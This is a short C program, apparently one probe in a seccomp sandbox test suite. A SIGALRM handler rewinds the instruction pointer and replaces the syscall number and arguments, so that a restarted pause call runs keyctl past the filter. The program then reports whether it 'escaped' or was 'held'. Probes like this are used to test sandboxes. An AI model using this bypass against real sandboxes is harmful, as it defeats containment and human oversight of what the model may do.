// title: have the kernel restart a call for us with other registers than the filter saw
// wall: seccomp_calls
// source: restart_syscall(2); the number in rax is ours when a handler returns
#include "attack.h"

#include <signal.h>
#include <sys/ucontext.h>
#include <sys/time.h>

/* On return from the handler the interrupted call starts over: as io_uring_setup, or unshare. */
static void
on_alarm(int signo, siginfo_t *info, void *context)
{
    greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;

    (void)signo;
    (void)info;
    registers[REG_RIP] -= 2; /* the syscall instruction once more */
    registers[REG_RAX] = SYS_keyctl;
    registers[REG_RDI] = 0;
    registers[REG_RSI] = -3;
    registers[REG_RDX] = 1;
}

int
main(void)
{
    struct sigaction action = { .sa_sigaction = on_alarm, .sa_flags = SA_SIGINFO };
    struct itimerval soon = { .it_value = { 0, 50000 } };
    long result;

    sigaction(SIGALRM, &action, NULL);
    setitimer(ITIMER_REAL, &soon, NULL);
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"((long)SYS_pause)
                     : "rcx", "r11", "memory", "rdi", "rsi", "rdx");
    if (result >= 0) {
        escaped("a keyring by a restarted call: %ld", result);
    }
    held("%s", strerror((int)-result));
}
